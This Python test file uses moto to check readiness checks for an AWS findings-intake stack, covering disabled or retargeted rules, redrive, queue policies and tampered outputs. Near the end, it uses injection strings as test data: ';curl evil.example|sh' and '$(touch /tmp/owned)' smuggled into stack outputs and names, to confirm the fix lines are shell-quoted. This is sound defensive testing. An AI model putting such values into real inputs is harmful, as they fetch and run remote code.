"""Readiness of the findings intake (moto): what the checks expect is what infra/findings-intake.yaml declares,
and each way the deployed stack drifts from it (gone, a rule disabled or aimed elsewhere, no redrive, a queue
policy letting others send) fails its check with the line that mends it."""

from __future__ import annotations

import json
import shlex

import boto3
import pytest

from activities.readiness_intake import (
    cloudtrail_eventbridge,
    intake_queue_policy,
    intake_redrive,
    intake_rules,
    intake_stack,
    sender_exemptions,
)
from irflow import intake_template
from irflow.devstack.intake_stack import IntakeStack, deploy_intake_stack
from irflow.models.readiness import CheckStatus, ReadinessScope
from tests.support import REPO, setting

pytestmark = pytest.mark.filterwarnings("ignore:Tried to parse AWS.+QueuePolicy:UserWarning")

REGION = "us-east-1"
SCOPE = ReadinessScope(account_id="", region=REGION)
INTAKE_CHECKS = (intake_stack, intake_rules, intake_redrive, intake_queue_policy, cloudtrail_eventbridge)
DEPLOY = (
    "aws cloudformation deploy --template-file infra/findings-intake.yaml --stack-name irflow-intake "
    "--capabilities CAPABILITY_NAMED_IAM --region us-east-1"
)


@pytest.fixture
def named(monkeypatch):
    setting(monkeypatch, intake_stack_name="irflow-intake")


def deploy(monkeypatch, **given) -> IntakeStack:
    """The intake stack `irflow-intake` deployed, its findings queue the one the listener reads."""
    stack = deploy_intake_stack(region=REGION, stack_name="irflow-intake", **given)
    setting(monkeypatch, queue_urls=stack.queue_url)
    return stack


@pytest.fixture
def intake(aws, named, monkeypatch) -> IntakeStack:
    return deploy(monkeypatch)


def statuses() -> dict[str, CheckStatus]:
    return {check.check_id: check(SCOPE).status for check in INTAKE_CHECKS}


def test_a_deployed_stack_passes_and_a_missing_one_fails_every_intake_check_with_the_deploy_line(
    aws, named, monkeypatch
):
    for check in INTAKE_CHECKS:
        result = check(SCOPE)
        assert result.status == CheckStatus.FAIL, check.check_id
        assert "no CloudFormation stack irflow-intake in us-east-1" in result.evidence
        assert result.fix == DEPLOY
    deploy(monkeypatch)
    assert set(statuses().values()) == {CheckStatus.PASS}


def test_a_disabled_rule_or_one_aimed_elsewhere_fails_naming_the_rule(intake):
    events = boto3.client("events", region_name=REGION)
    events.disable_rule(Name=intake.securityhub_imported_rule_name)
    result = intake_rules(SCOPE)
    assert result.status == CheckStatus.FAIL
    assert result.evidence == f"rule {intake.securityhub_imported_rule_name} is DISABLED"
    assert result.fix == f"aws events enable-rule --name {intake.securityhub_imported_rule_name} --region us-east-1"
    events.enable_rule(Name=intake.securityhub_imported_rule_name)

    boto3.client("sqs", region_name=REGION).create_queue(QueueName="somewhere-else")
    arn = f"arn:aws:sqs:{REGION}:123456789012:somewhere-else"
    events.remove_targets(Rule=intake.cloudtrail_rule_name, Ids=["findings-queue"])
    events.put_targets(Rule=intake.cloudtrail_rule_name, Targets=[{"Id": "other", "Arn": arn}])
    assert intake_rules(SCOPE).status == CheckStatus.PASS  # the CloudTrail rule is not its business
    result = cloudtrail_eventbridge(SCOPE)
    assert result.status == CheckStatus.FAIL
    assert f"targets {arn}, not the findings queue" in result.evidence
    assert f"Arn={intake.queue_arn}" in result.fix


def test_the_log_files_rule_is_checked_where_the_stack_has_it(aws, named, monkeypatch):
    stack = deploy(monkeypatch, cloudtrail_log_bucket="org-trail-logs")
    assert intake_rules(SCOPE).status == CheckStatus.PASS
    assert stack.cloudtrail_log_files_rule_name in intake_rules(SCOPE).evidence
    boto3.client("events", region_name=REGION).disable_rule(Name=stack.cloudtrail_log_files_rule_name)
    assert intake_rules(SCOPE).status == CheckStatus.FAIL


def test_no_redrive_fails_with_the_line_that_sets_it(intake):
    sqs = boto3.client("sqs", region_name=REGION)
    other = sqs.create_queue(QueueName="another-dlq")["QueueUrl"]
    other_arn = sqs.get_queue_attributes(QueueUrl=other, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    redrive = {"deadLetterTargetArn": other_arn, "maxReceiveCount": "25"}
    sqs.set_queue_attributes(QueueUrl=intake.queue_url, Attributes={"RedrivePolicy": json.dumps(redrive)})
    result = intake_redrive(SCOPE)
    assert result.status == CheckStatus.FAIL
    assert f"redrives to {other_arn}, not to {intake.dead_letter_queue_arn}" in result.evidence
    assert result.fix.startswith(f"aws sqs set-queue-attributes --queue-url {intake.queue_url} --region us-east-1")
    assert intake.dead_letter_queue_arn in result.fix

    sqs.set_queue_attributes(
        QueueUrl=intake.queue_url,
        Attributes={"RedrivePolicy": json.dumps({**redrive, "deadLetterTargetArn": intake.dead_letter_queue_arn})},
    )
    assert intake_redrive(SCOPE).status == CheckStatus.PASS
    sqs.delete_queue(QueueUrl=intake.dead_letter_queue_url)
    gone = intake_redrive(SCOPE)
    assert gone.status == CheckStatus.FAIL and f"queue {intake.dead_letter_queue_url}" in gone.evidence
    assert "delete-stack" in gone.fix


def _policy(url: str) -> dict:
    sqs = boto3.client("sqs", region_name=REGION)
    return json.loads(sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["Policy"])["Attributes"]["Policy"])


def _set_policy(url: str, policy: dict) -> None:
    boto3.client("sqs", region_name=REGION).set_queue_attributes(
        QueueUrl=url, Attributes={"Policy": json.dumps(policy)}
    )


def test_a_queue_policy_letting_others_send_fails(intake):
    policy = _policy(intake.queue_url)
    assert intake_queue_policy(SCOPE).status == CheckStatus.PASS

    [deny] = [s for s in policy["Statement"] if s["Effect"] == "Deny"]
    intruder = f"arn:aws:events:{REGION}:999988887777:rule/not-ours"
    deny["Condition"]["ArnNotEquals"]["aws:SourceArn"].append(intruder)
    _set_policy(intake.queue_url, policy)
    result = intake_queue_policy(SCOPE)
    assert result.status == CheckStatus.FAIL and intruder in result.evidence
    assert "NobodyElseMaySend" in result.fix and intake.queue_url in result.fix

    policy["Statement"].remove(deny)
    _set_policy(intake.queue_url, policy)
    result = intake_queue_policy(SCOPE)
    assert result.status == CheckStatus.FAIL and "denies other senders" in result.evidence


def test_trusted_topics_of_the_stack_may_be_let_through(aws, named, monkeypatch):
    topic = boto3.client("sns", region_name=REGION).create_topic(Name="findings-relay")["TopicArn"]
    deploy(monkeypatch, trusted_topic_arns=[topic])
    result = intake_queue_policy(SCOPE)
    assert result.status == CheckStatus.PASS and "5 source(s)" in result.evidence


def test_a_deny_that_tests_more_than_the_source_is_not_counted():
    queue = f"arn:aws:sqs:{REGION}:123456789012:irflow-findings"
    rule = f"arn:aws:events:{REGION}:123456789012:rule/irflow-guardduty-findings"
    deny = {
        "Effect": "Deny",
        "Principal": {"AWS": "*"},
        "Action": ["sqs:*"],
        "Resource": queue,
        "Condition": {"ArnNotEquals": {"aws:SourceArn": rule}},
    }
    assert sender_exemptions({"Statement": [deny]}, queue) == [[rule]]
    narrowed = {**deny, "Condition": {**deny["Condition"], "StringEquals": {"aws:SourceAccount": "123456789012"}}}
    assert sender_exemptions({"Statement": [narrowed]}, queue) == []
    elsewhere = {**deny, "Resource": f"arn:aws:sqs:{REGION}:123456789012:other"}
    assert sender_exemptions({"Statement": elsewhere}, queue) == []
    allowing = {**deny, "Effect": "Allow"}
    assert sender_exemptions({"Statement": [allowing]}, queue) == []


def test_a_stack_of_that_name_made_from_another_template_fails(aws, named):
    template = {"Resources": {"Queue": {"Type": "AWS::SQS::Queue", "Properties": {"QueueName": "not-the-intake"}}}}
    boto3.client("cloudformation", region_name=REGION).create_stack(
        StackName="irflow-intake", TemplateBody=json.dumps(template)
    )
    result = intake_stack(SCOPE)
    assert result.status == CheckStatus.FAIL
    assert "has no output FindingsQueueUrl, FindingsQueueArn" in result.evidence
    assert "it is not infra/findings-intake.yaml" in result.evidence and result.fix == DEPLOY
    assert intake_rules(SCOPE).status == CheckStatus.FAIL


def _rule_arn(name: str) -> str:
    return f"arn:aws:events:{REGION}:123456789012:rule/{name}"


def _the_deny(policy: dict) -> dict:
    [deny] = [s for s in policy["Statement"] if s["Effect"] == "Deny"]
    return deny


def test_a_deny_sparing_fewer_sources_than_the_stack_or_none_keeps_their_findings_out(intake):
    """The Deny must spare every rule of the stack: one it forgets (or a deny-all) drops that rule's findings."""
    policy = _policy(intake.queue_url)
    deny = _the_deny(policy)
    guardduty = _rule_arn(intake.guardduty_rule_name)
    deny["Condition"]["ArnNotEquals"]["aws:SourceArn"].remove(guardduty)
    _set_policy(intake.queue_url, policy)
    subset = intake_queue_policy(SCOPE)
    assert subset.status == CheckStatus.FAIL
    assert f"denies the stack's own {guardduty}: what they send never reaches the queue" in subset.evidence
    assert subset.problems == [f"{guardduty}: denied"]

    del deny["Condition"]  # deny-all: nothing reaches the queue
    _set_policy(intake.queue_url, policy)
    everything = intake_queue_policy(SCOPE)
    assert everything.status == CheckStatus.FAIL
    assert everything.problems == sorted(f"{_rule_arn(name)}: denied" for name in intake.rule_names)
    assert "NobodyElseMaySend" in everything.fix


def test_the_queue_policy_is_read_with_not_resource_and_not_action_as_iam_reads_them(intake):
    policy = _policy(intake.queue_url)
    deny = _the_deny(policy)
    # denying everything *but* sqs:ReceiveMessage still denies sending: the template's Deny, spelled otherwise
    deny["NotAction"] = "sqs:ReceiveMessage"
    del deny["Action"]
    _set_policy(intake.queue_url, policy)
    assert intake_queue_policy(SCOPE).status == CheckStatus.PASS

    # on every queue but this one: the Deny does not apply here, whatever its Action says
    deny["Action"], deny["NotResource"] = "sqs:SendMessage", deny.pop("Resource")
    del deny["NotAction"]
    _set_policy(intake.queue_url, policy)
    result = intake_queue_policy(SCOPE)
    assert result.status == CheckStatus.FAIL and "denies other senders" in result.evidence


def test_a_rule_whose_event_pattern_was_changed_fails_with_the_templates_pattern(aws, named, monkeypatch):
    """Someone allowed events:PutRule makes the GuardDuty rule match nothing: enabled and aimed right, it is still
    broken. The fix puts back the template's pattern, with the stack's own parameter values."""
    stack = deploy(monkeypatch, guardduty_minimum_severity=4)
    assert intake_rules(SCOPE).status == CheckStatus.PASS  # the stack's threshold, not the template's default
    events = boto3.client("events", region_name=REGION)
    events.put_rule(Name=stack.guardduty_rule_name, EventPattern=json.dumps({"source": ["nothing.at.all"]}))

    result = intake_rules(SCOPE)
    assert result.status == CheckStatus.FAIL
    assert f"rule {stack.guardduty_rule_name} matches" in result.evidence and "nothing.at.all" in result.evidence
    assert result.problems == [f"{stack.guardduty_rule_name}: event pattern changed"]
    command = shlex.split(result.fix)
    assert command[:5] == ["aws", "events", "put-rule", "--name", stack.guardduty_rule_name]
    pattern = json.loads(command[command.index("--event-pattern") + 1])
    assert pattern["detail"] == {"severity": [{"numeric": [">=", 4]}]}

    events.put_rule(Name=stack.guardduty_rule_name, EventPattern=json.dumps(pattern))  # as the fix says
    assert intake_rules(SCOPE).status == CheckStatus.PASS


def test_a_decoy_stack_fails_and_its_queue_is_not_looked_at(aws, named, monkeypatch):
    """IRFLOW_INTAKE_STACK_NAME naming a stack whose queue the listener does not read: whatever that stack holds,
    it says nothing about the queue findings are read from."""
    real = deploy(monkeypatch)
    deploy_intake_stack(region=REGION, stack_name="decoy-intake", name_prefix="decoy")
    setting(monkeypatch, intake_stack_name="decoy-intake")

    results = {check.check_id: check(SCOPE) for check in INTAKE_CHECKS}
    stack = results.pop("intake.stack")
    assert stack.status == CheckStatus.FAIL
    assert f"the listener reads {real.queue_url} (IRFLOW_QUEUE_URLS), not stack decoy-intake's queue" in stack.evidence
    assert "IRFLOW_QUEUE_URLS" in stack.fix
    assert {r.status for r in results.values()} == {CheckStatus.UNKNOWN}
    assert all("not checked (see intake.stack)" in r.evidence for r in results.values())

    setting(monkeypatch, queue_urls="")
    assert "IRFLOW_QUEUE_URLS is not set here" in intake_stack(SCOPE).evidence


VALID_OUTPUTS = {
    "FindingsQueueUrl": f"https://sqs.{REGION}.amazonaws.com/123456789012/irflow-findings",
    "FindingsQueueArn": f"arn:aws:sqs:{REGION}:123456789012:irflow-findings",
    "DeadLetterQueueUrl": f"https://sqs.{REGION}.amazonaws.com/123456789012/irflow-findings-dlq",
    "DeadLetterQueueArn": f"arn:aws:sqs:{REGION}:123456789012:irflow-findings-dlq",
    **{
        output: _rule_arn(name)
        for output, name in {
            "GuardDutyFindingsRuleArn": "irflow-guardduty-findings",
            "SecurityHubImportedFindingsRuleArn": "irflow-securityhub-imported",
            "SecurityHubCustomActionRuleArn": "irflow-securityhub-custom-action",
            "CloudTrailApiCallsRuleArn": "irflow-cloudtrail-api-calls",
        }.items()
    },
}


def _stack_with_outputs(name: str, outputs: dict[str, str]) -> None:
    template = {
        "Resources": {"Queue": {"Type": "AWS::SQS::Queue", "Properties": {"QueueName": "placeholder"}}},
        "Outputs": {key: {"Value": value} for key, value in outputs.items()},
    }
    boto3.client("cloudformation", region_name=REGION).create_stack(StackName=name, TemplateBody=json.dumps(template))


@pytest.mark.parametrize(
    "output, value",
    [
        ("FindingsQueueUrl", f"https://sqs.{REGION}.amazonaws.com/123456789012/irflow-findings;curl evil.example|sh"),
        ("FindingsQueueUrl", f"https://sqs.{REGION}.amazonaws.com/999988887777/irflow-findings"),  # another account
        ("DeadLetterQueueArn", "arn:aws:sqs:eu-west-1:123456789012:irflow-findings-dlq"),  # another region
        ("GuardDutyFindingsRuleArn", _rule_arn("irflow-guardduty-findings $(touch /tmp/owned)")),
    ],
)
def test_outputs_naming_what_is_not_this_accounts_and_regions_fail_every_intake_check(
    aws, named, monkeypatch, output, value
):
    setting(monkeypatch, queue_urls=VALID_OUTPUTS["FindingsQueueUrl"])
    _stack_with_outputs("irflow-intake", {**VALID_OUTPUTS, output: value})
    for check in INTAKE_CHECKS:
        result = check(SCOPE)
        assert result.status == CheckStatus.FAIL, check.check_id
        assert (
            f"{output} {value}" in result.evidence and "not a queue or rule of account 123456789012" in result.evidence
        )
        assert result.problems == [f"{output}: not of this account and region"]
        assert result.fix == DEPLOY, "nothing the account wrote reaches the command"


def test_every_value_in_a_fix_line_is_shell_quoted(aws, monkeypatch):
    hostile = "irflow-intake; touch /tmp/owned"
    setting(monkeypatch, intake_stack_name=hostile)
    result = intake_stack(SCOPE)
    assert result.status == CheckStatus.FAIL
    command = shlex.split(result.fix)
    assert command[command.index("--stack-name") + 1] == hostile
    assert ";" not in "".join(t for t in command if t != hostile)


def test_without_the_template_the_rules_are_unknown_not_passed(intake, monkeypatch):
    """An irflow installed without infra/findings-intake.yaml cannot tell a rule's pattern from a tampered one."""
    monkeypatch.setattr(intake_template, "TEMPLATE", REPO / "no-such-folder" / "findings-intake.yaml")
    monkeypatch.chdir(REPO / "docs")
    intake_template._shipped.cache_clear()  # noqa: SLF001
    try:
        result = intake_rules(SCOPE)
    finally:
        intake_template._shipped.cache_clear()  # noqa: SLF001
    assert result.status == CheckStatus.UNKNOWN
    assert "event patterns not compared: infra/findings-intake.yaml is not beside irflow's code" in result.evidence
